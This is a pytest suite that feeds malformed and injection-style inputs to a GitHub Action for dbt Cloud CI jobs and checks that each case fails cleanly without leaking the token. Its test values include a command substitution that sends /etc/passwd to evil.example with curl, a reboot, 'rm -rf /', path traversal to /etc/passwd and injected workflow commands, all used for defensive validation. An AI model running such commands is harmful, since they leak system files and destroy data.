"""Bad input suite: every case fails with one `::error::` line naming the cause and the fix, a non-zero exit,
and no request that changes anything in dbt Cloud; no case prints the token."""

from __future__ import annotations

import io
import json
from collections.abc import Callable, Iterator
from contextlib import redirect_stdout
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from autoscale_ci.run import main
from dbt_cloud_emulator import Emulator, EmulatorConfig
from tests.harness import input_defaults, pr_event

SHA = "a" * 40
NASTY = "$(curl -d @/etc/passwd evil.example)`reboot`;\n::error::injected%0A::set-output name=x::y"
MISSING = object()


@dataclass(frozen=True)
class Case:
    """One bad input and what the error must say."""

    name: str
    says: tuple[str, ...]
    inputs: dict[str, str] = field(default_factory=dict)
    event: Any = None  # None: a good PR event; MISSING: no file; str: raw file content
    event_name: str = "pull_request"
    setup: Callable[[Emulator], None] | None = None
    reaches_dbt_cloud: bool = False


def _lock(emu: Emulator) -> None:
    emu.set_account(locked=True, lock_reason="Trial ended")


def _foreign_job(emu: Emulator) -> None:
    with emu.state.lock:
        emu.state.jobs[emu.ci_job_id or 0]["account_id"] = 4321


CASES = [
    Case("empty token", ("'dbt-cloud-token' is required", "secrets."), {"dbt-cloud-token": ""}),
    Case("token with spaces", ("'dbt-cloud-token'", "spaces"), {"dbt-cloud-token": "abc def"}),
    Case("account-id not a number", ("'account-id'", "whole number"), {"account-id": "abc"}),
    Case("account-id negative", ("'account-id'", "greater than 0"), {"account-id": "-1"}),
    Case("account-id zero", ("'account-id'", "greater than 0"), {"account-id": "0"}),
    Case("job-id float", ("'job-id'", "whole number"), {"job-id": "1e3"}),
    Case("job-id huge", ("'job-id'", "less than"), {"job-id": "9" * 40}),
    Case("job-id unicode digits", ("'job-id'",), {"job-id": "٣٤"}),
    Case("host plain http", ("'dbt-cloud-host'", "https://"), {"dbt-cloud-host": "http://cloud.getdbt.com"}),
    Case("host with path", ("'dbt-cloud-host'", "no path"), {"dbt-cloud-host": "cloud.getdbt.com/api/v2"}),
    Case("host with space", ("'dbt-cloud-host'", "valid host"), {"dbt-cloud-host": "https://exa mple.com"}),
    Case("host other scheme", ("'dbt-cloud-host'", "scheme"), {"dbt-cloud-host": "javascript:alert(1)"}),
    Case("delete-clone not a boolean", ("'delete-clone'", "true or false"), {"delete-clone": "yes please"}),
    Case(
        "native-concurrency out of its set",
        ("'native-concurrency'", "auto", "true or false"),
        {"native-concurrency": "maybe"},
    ),
    Case("native-trigger not a boolean", ("'native-trigger'", "true or false"), {"native-trigger": "webhook"}),
    Case("max-run-slots negative", ("'max-run-slots'", "greater than 0"), {"max-run-slots": "-2"}),
    Case("stale-base out of its set", ("'stale-base'", "warn, fail or off"), {"stale-base": "error"}),
    Case("max-nodes zero", ("'max-nodes'", "greater than 0"), {"max-nodes": "0"}),
    Case("max-nodes not whole", ("'max-nodes'", "whole number"), {"max-nodes": "1.5"}),
    Case("on-max-nodes out of its set", ("'on-max-nodes'", "warn or cancel"), {"on-max-nodes": "stop"}),
    Case("wait not a boolean", ("'wait'", "true or false"), {"wait": "maybe"}),
    Case("poll-interval zero", ("'poll-interval'", "greater than 0"), {"poll-interval": "0"}),
    Case("poll-interval huge", ("'poll-interval'", "at most"), {"poll-interval": "1e9"}),
    Case("timeout-minutes negative", ("'timeout-minutes'", "greater than 0"), {"timeout-minutes": "-5"}),
    Case("run-on-draft number", ("'run-on-draft'", "true or false"), {"run-on-draft": "2"}),
    Case("cause too long", ("'cause'", "at most"), {"cause": "x" * 300}),
    Case("cause with a line break", ("'cause'", "control characters"), {"cause": "a\nb"}),
    Case(
        "schema-override injection", ("'schema-override'", "plain identifier"), {"schema-override": "x; drop schema y"}
    ),
    Case("schema-override unicode", ("'schema-override'", "plain identifier"), {"schema-override": "schéma"}),
    Case("steps-override not dbt", ("'steps-override'", "not a dbt command"), {"steps-override": "rm -rf /"}),
    Case("threads-override zero", ("'threads-override'", "greater than 0"), {"threads-override": "0"}),
    Case(
        "timeout-seconds-override negative",
        ("'timeout-seconds-override'", "at least"),
        {"timeout-seconds-override": "-1"},
    ),
    Case(
        "generate-docs-override word",
        ("'generate-docs-override'", "true or false"),
        {"generate-docs-override": "perhaps"},
    ),
    Case("git-branch injection", ("'git-branch'", "control characters"), {"git-branch": NASTY}),
    Case("mode unknown", ("'mode'", "run", "cleanup"), {"mode": "destroy"}),
    Case("clone-max-age-minutes too small", ("'clone-max-age-minutes'", "at least 10"), {"clone-max-age-minutes": "1"}),
    Case("artifacts path traversal", ("'artifacts'", "artifact path"), {"artifacts": "../../etc/passwd"}),
    Case("artifacts-path absolute", ("'artifacts-path'", "relative path"), {"artifacts-path": "/etc"}),
    Case("pr-number word", ("'pr-number'", "whole number"), {"pr-number": "abc"}),
    Case("git-sha not a sha", ("'git-sha'", "40-character"), {"git-sha": "HEAD"}),
    Case("event file missing", ("Cannot read the event file",), event=MISSING),
    Case("event file not JSON", ("not valid JSON",), event="{not json"),
    Case("push event", ("'push' event", "pull_request"), event={"ref": "refs/heads/main"}, event_name="push"),
    Case("PR event without head sha", ("pull_request.head.sha",), event={"pull_request": {"number": 3, "head": {}}}),
    Case("PR number a word", ("pull_request.number",), event={"pull_request": {"number": "abc", "head": {"sha": SHA}}}),
    Case(
        "injection-like event fields",
        ("pull_request.head.sha",),
        event={"pull_request": {"number": 3, "title": NASTY, "head": {"sha": NASTY, "ref": NASTY}}},
    ),
    Case(
        "fork PR with an empty token",
        ("comes from a fork", "pull_request_target"),
        {"dbt-cloud-token": ""},
        event={"pull_request": {"number": 3, "head": {"sha": SHA, "repo": {"id": 2}}, "base": {"repo": {"id": 1}}}},
    ),
    Case(
        "wrong token",
        ("401", "unexpired token", "personal access token", "EMEA"),
        {"dbt-cloud-token": "dbtc_wrong"},
        reaches_dbt_cloud=True,
    ),
    Case("read-only token", ("403", "permission to run jobs"), {"dbt-cloud-token": "readonly"}, reaches_dbt_cloud=True),
    Case("unknown account", ("404", "account-id"), {"account-id": "999"}, reaches_dbt_cloud=True),
    Case("unknown job", ("404", "job-id 999999"), {"job-id": "999999"}, reaches_dbt_cloud=True),
    Case("locked account", ("locked", "Trial ended"), setup=_lock, reaches_dbt_cloud=True),
    Case("job of another account", ("404", "job-id", "account 1234"), setup=_foreign_job, reaches_dbt_cloud=True),
]


@dataclass
class Result:
    """What one case printed and wrote, and the requests it made."""

    code: int
    printed: str
    files: str
    writes: list[str]
    requests: int
    token: str


@pytest.fixture
def emu() -> Iterator[Emulator]:
    with Emulator(EmulatorConfig(readonly_token="readonly", run_seconds=30.0)) as emulator:
        yield emulator


def run_case(case: Case, emu: Emulator, workdir: Path, monkeypatch: pytest.MonkeyPatch) -> Result:
    workdir.mkdir(parents=True, exist_ok=True)
    event_path = workdir / "event.json"
    if case.event is None:
        event_path.write_text(json.dumps(pr_event(3, SHA)), encoding="utf-8")
    elif isinstance(case.event, str):
        event_path.write_text(case.event, encoding="utf-8")
    elif case.event is not MISSING:
        event_path.write_text(json.dumps(case.event), encoding="utf-8")
    if case.setup is not None:
        case.setup(emu)
    inputs = {
        **input_defaults(),
        "dbt-cloud-token": emu.token,
        "account-id": str(emu.account_id),
        "job-id": str(emu.ci_job_id),
        "dbt-cloud-host": emu.url,
        **case.inputs,
    }
    for name, value in inputs.items():
        monkeypatch.setenv(f"INPUT_{name.upper()}", value)
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_EVENT_NAME", case.event_name)
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(event_path))
    for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_STATE"):
        (workdir / name).write_text("", encoding="utf-8")
        monkeypatch.setenv(name, str(workdir / name))
    before = len(emu.requests())
    printed = io.StringIO()
    with redirect_stdout(printed):
        code = main()
    made = emu.requests()[before:]
    files = "".join((workdir / name).read_text(encoding="utf-8") for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"))
    return Result(
        code=code,
        printed=printed.getvalue(),
        files=files,
        # A write dbt Cloud refused (401, 403, 404) changed nothing; only an accepted one counts.
        writes=[f"{e['method']} {e['path']}" for e in made if e["method"] != "GET" and 200 <= (e["status"] or 0) < 300],
        requests=len(made),
        token=inputs["dbt-cloud-token"],
    )


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_bad_input(case: Case, emu: Emulator, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    result = run_case(case, emu, tmp_path, monkeypatch)
    assert result.code != 0
    errors = [line for line in result.printed.splitlines() if line.startswith("::error")]
    assert len(errors) == 1, result.printed
    for words in case.says:
        assert words in errors[0], errors[0]
    assert result.writes == []
    if not case.reaches_dbt_cloud:
        assert result.requests == 0
    # Nothing a user typed may become a workflow command of its own.
    assert all(not line.startswith("::") or line.startswith(("::error", "::add-mask", "::group", "::endgroup"))
               for line in result.printed.splitlines())  # fmt: skip


def test_the_suite_has_at_least_thirty_cases() -> None:
    assert len(CASES) >= 30


def test_no_case_prints_the_token(emu: Emulator, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for index, case in enumerate(CASES):
        result = run_case(case, emu, tmp_path / str(index), monkeypatch)
        if len(result.token) < 4:
            continue
        shown = result.printed.replace(f"::add-mask::{result.token}", "")
        assert result.token not in shown, case.name
        assert result.token not in result.files, case.name
        emu.set_account(locked=False, lock_reason=None)
